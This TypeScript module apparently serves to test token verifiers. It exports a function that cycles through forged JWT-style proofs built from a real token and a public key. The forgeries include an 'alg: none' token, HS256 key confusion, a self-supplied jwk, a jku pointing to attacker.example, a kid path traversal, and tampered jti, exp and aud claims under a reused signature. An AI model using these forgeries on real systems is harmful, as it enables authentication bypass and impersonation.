import { createHmac, generateKeyPairSync, randomBytes, sign } from "node:crypto";

const attacker = generateKeyPairSync("ed25519");

/** A proof as three JSON texts; what `forgeProof` starts from. */
interface Parts {
  readonly header: Readonly<Record<string, unknown>>;
  readonly claims: Readonly<Record<string, unknown>>;
  readonly signature: string;
}

const kinds: readonly ((proof: Parts, publicKey: string) => string)[] = [
  // "none" needs no signature (RFC 8725, 2.1).
  ({ header, claims }) => `${encode({ ...header, alg: "none" })}.${encode(claims)}.`,
  // The public key as the secret of a symmetric algorithm (RFC 8725, 2.1).
  ({ header, claims }, publicKey) => {
    const body = `${encode({ ...header, alg: "HS256" })}.${encode(claims)}`;
    return `${body}.${createHmac("sha256", Buffer.from(publicKey, "base64url")).update(body).digest("base64url")}`;
  },
  // A key that the token brings itself, or tells where to find.
  ({ header, claims }) => signed({ ...header, jwk: attacker.publicKey.export({ format: "jwk" }) }, claims),
  ({ header, claims }) => signed({ ...header, jku: "https://attacker.example/keys.json" }, claims),
  ({ header, claims }) => signed({ ...header, kid: "../../../../dev/null" }, claims),
  ({ header, claims }) => signed(header, claims),
  // Another verification, more time, another project, under the signature of this one.
  ({ header, claims, signature }) => `${encode(header)}.${encode({ ...claims, jti: claimed() })}.${signature}`,
  ({ header, claims, signature }) => `${encode(header)}.${encode({ ...claims, exp: 4_102_444_800 })}.${signature}`,
  ({ header, claims, signature }) => `${encode(header)}.${encode({ ...claims, aud: claimed() })}.${signature}`,
  ({ header, claims, signature }) => `${encode({ ...header, typ: "JWT" })}.${encode(claims)}.${signature}`,
  ({ header, claims }) => `${encode(header)}.${encode(claims)}.${randomBytes(64).toString("base64url")}`,
];

/** One of several kinds of forgery, by turns, made of a proof that is true and of the key that is published. */
export function forgeProof(proof: string, { n, publicKey }: { n: number; publicKey: string }): string {
  const [header = "", claims = "", signature = ""] = proof.split(".");
  const forge = kinds[n % kinds.length];
  if (forge === undefined) throw new Error("there is no such forgery");
  return forge({ header: decode(header), claims: decode(claims), signature }, publicKey);
}

function signed(header: Readonly<Record<string, unknown>>, claims: Readonly<Record<string, unknown>>): string {
  const body = `${encode(header)}.${encode({ ...claims, jti: claimed() })}`;
  return `${body}.${sign(null, Buffer.from(body), attacker.privateKey).toString("base64url")}`;
}

function claimed(): string {
  return `ver_${randomBytes(13).toString("hex")}`;
}

function encode(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString("base64url");
}

function decode(text: string): Readonly<Record<string, unknown>> {
  return JSON.parse(Buffer.from(text, "base64url").toString());
}
